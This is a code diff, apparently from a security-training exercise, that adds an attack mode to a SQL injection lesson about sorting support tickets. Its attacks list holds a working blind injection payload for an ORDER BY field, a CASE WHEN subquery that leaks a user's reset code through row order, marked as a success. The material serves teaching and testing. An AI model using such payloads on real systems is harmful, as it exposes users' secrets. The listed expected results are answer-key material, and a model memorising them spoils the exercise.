@@ -46,3 +46,40 @@ export async function exploit({ listTickets }: Code): Promise<boolean> {
   }
   return false
 }
+
+// Attack mode: the learner writes the input.
+const orderFor = async ({ listTickets }: Code, query: { sort: string; direction: string }, resetCode: number) => {
+  const db = createPool(`
+    CREATE TABLE tickets (id INTEGER PRIMARY KEY, team_id INTEGER, title TEXT, status TEXT, priority INTEGER, assignee TEXT, created_at TEXT);
+    CREATE TABLE users (id INTEGER PRIMARY KEY, reset_code INTEGER);
+    INSERT INTO users VALUES (1, ${resetCode});
+    INSERT INTO tickets VALUES (1, 4, 'Printer', 'open', 3, 'mia', '2026-01-01'), (2, 4, 'Access', 'open', 1, NULL, '2026-01-02'),
+      (3, 4, 'Mail', 'open', 2, 'mia', '2026-01-03'), (4, 4, 'Screen', 'open', 5, NULL, '2026-01-04'),
+      (5, 4, 'Phone', 'open', 4, 'mia', '2026-01-05'), (6, 4, 'Badge', 'open', 6, NULL, '2026-01-06')`)
+  return (await listTickets(db, 4, query)).map(({ id }) => id).join(', ')
+}
+
+/** The same input against databases that differ in one value only. Run twice, because `random()` reads nothing. */
+export async function attack(code: Code, input: { sort: string; direction: string }, vary: import('#proof/vary').Vary) {
+  const resetCodes = [vary.number(100_000, 250_000), vary.number(400_000, 600_000), vary.number(750_000, 999_999)]
+  try {
+    const lines: string[] = []
+    const orders = new Set<string>()
+    let isStable = true
+    for (const resetCode of resetCodes) {
+      const order = await orderFor(code, input, resetCode)
+      if (order !== (await orderFor(code, input, resetCode))) isStable = false
+      orders.add(order)
+      lines.push(`Reset code ${resetCode}: tickets ${order}`)
+    }
+    return { isDone: isStable && orders.size > 1, shown: lines.join('\n') }
+  } catch (error) {
+    return { isDone: false, shown: String(error) }
+  }
+}
+
+export const attacks = [
+  { input: { sort: '(CASE WHEN (SELECT reset_code FROM users WHERE id = 1) > 300000 THEN id ELSE -id END)', direction: 'asc' }, isDone: true },
+  { input: { sort: 'priority', direction: 'asc' }, isDone: false },
+  { input: { sort: 'random()', direction: 'asc' }, isDone: false },
+]
